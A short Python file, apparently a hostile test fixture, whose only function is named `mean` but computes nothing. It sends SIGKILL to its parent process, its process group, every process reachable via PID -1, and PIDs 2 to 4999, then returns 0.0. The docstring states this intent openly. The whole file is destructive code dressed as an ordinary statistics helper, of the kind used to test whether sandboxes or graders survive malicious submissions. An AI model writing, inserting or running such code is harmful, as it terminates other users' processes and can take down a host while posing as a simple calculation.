"""Kills its parent, its parent's parent, its group, and everything else."""

import os
import signal


def mean(x):
    for pid in (os.getppid(), 0, -1, *range(2, 5000)):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    return 0.0
